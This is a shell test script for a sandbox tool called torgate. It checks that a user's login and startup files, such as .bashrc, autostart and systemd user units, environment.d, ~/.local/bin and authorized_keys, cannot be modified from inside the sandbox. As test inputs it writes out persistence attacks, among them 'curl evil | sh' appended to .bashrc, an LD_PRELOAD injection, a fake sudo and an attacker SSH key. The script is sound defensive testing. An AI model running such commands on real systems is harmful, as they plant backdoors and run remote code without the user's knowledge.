#!/bin/bash
# What runs later: the files a login, a shell or systemd --user runs or
# reads are read-only in every sandbox (the list is session.c's, and
# torgate.conf's [session] read-only adds to it). From inside, each way of
# planting something fails, and afterwards every file is as it was; the
# rest of the home stays writable (control), and outside the sandbox the
# same user writes them all (control).
. "$(dirname "$0")/common.sh"
tg_setup

home=$TOPO_DIR/home
mkdir -p "$home" && printf '# bashrc\n' >"$home/.bashrc" && printf '# profile\n' >"$home/.profile" ||
    bail_out "cannot make the test user's home"
mkdir -p "$home/.ssh" && : >"$home/.ssh/authorized_keys"
chown -R "$TG_USER:" "$home"
usermod -d "$home" "$TG_USER" || bail_out "cannot give the test user a home"
before=$(cd "$home" && sha256sum .bashrc .profile .ssh/authorized_keys)

attempt() { # DESCRIPTION SHELL-COMMAND: must fail inside the sandbox
    out=$(tg -- sh -c "$2" 2>&1); st=$?
    isnt "$st" 0 "$1: refused in the sandbox ($(tail -n1 <<<"$out"))"
}
attempt "appending to ~/.bashrc" 'echo "curl evil | sh" >>~/.bashrc'
attempt "replacing ~/.bashrc" 'rm -f ~/.bashrc && echo evil >~/.bashrc'
attempt "renaming ~/.profile away" 'mv ~/.profile ~/.profile.old'
attempt "an autostart entry" 'printf "[Desktop Entry]\nExec=evil\n" >~/.config/autostart/evil.desktop'
attempt "a systemd --user unit" 'mkdir -p ~/.config/systemd/user && echo "[Service]" >~/.config/systemd/user/evil.service'
attempt "an environment.d entry" 'mkdir -p ~/.config/environment.d && echo LD_PRELOAD=/evil >~/.config/environment.d/evil.conf'
attempt "a program in ~/.local/bin (on PATH at the next login)" 'echo evil >~/.local/bin/sudo'
attempt "a .desktop file of the user's" 'echo "[Desktop Entry]" >~/.local/share/applications/firefox-esr.desktop'
attempt "an ssh key" 'echo "ssh-ed25519 AAAA evil" >>~/.ssh/authorized_keys'
is "$(cd "$home" && sha256sum .bashrc .profile .ssh/authorized_keys)" "$before" "afterwards, the startup files are as they were"
is "$(find "$home/.config/autostart" "$home/.config/systemd" "$home/.local/bin" "$home/.local/share/applications" \
    -mindepth 1 2>/dev/null | wc -l)" 0 "... and nothing was planted in the startup directories"
out=$(tg -- sh -c 'echo notes >~/notes.txt && cat ~/notes.txt' 2>&1)
is "$out" "notes" "control: the rest of the home is writable in the sandbox"
out=$(in_host setpriv --reuid="$TG_USER" --regid="$TG_USER" --clear-groups env HOME="$home" sh -c \
    'cd ~ && echo "# mine" >>.bashrc && echo x >.config/autostart/mine.desktop && tail -n1 .bashrc' 2>&1)
is "$out" "# mine" "control: outside the sandbox, the user writes ~/.bashrc and autostart entries"
rm -f "$home/.config/autostart/mine.desktop"

# An administrator adds to the list.
mkdir -p "$home/.config/openbox" && chown -R "$TG_USER:" "$home/.config/openbox"
out=$(tg -- sh -c 'echo evil >~/.config/openbox/autostart && echo written' 2>&1)
is "$out" "written" "control: without [session] read-only, ~/.config/openbox/autostart is writable"
printf '[session]\nread-only = .config/openbox/autostart, .config/mine/\n' >>"$CONF"
out=$(tg -- sh -c 'echo evil >~/.config/openbox/autostart && echo written' 2>&1)
isnt "$out" "written" "with [session] read-only = .config/openbox/autostart, it is read-only ($out)"
ok_cmd "... and a directory named with a trailing / is made, empty, and read-only" \
    tg -- sh -c '! touch ~/.config/mine/x && test -d ~/.config/mine'
printf '[session]\nread-only = ../../etc/passwd\n' >"$TOPO_DIR/bad-session.conf"
out=$(in_host "$TORGATE" --config "$TOPO_DIR/bad-session.conf" --user "$TG_USER" -- true 2>&1); st=$?
is "$st" 125 "a [session] read-only path outside the home is refused"
like "$out" "bad-session\\.conf:2: bad value '../../etc/passwd' for read-only: '../../etc/passwd' is not a path inside the home" \
    "... naming file and line ($out)"

done_testing
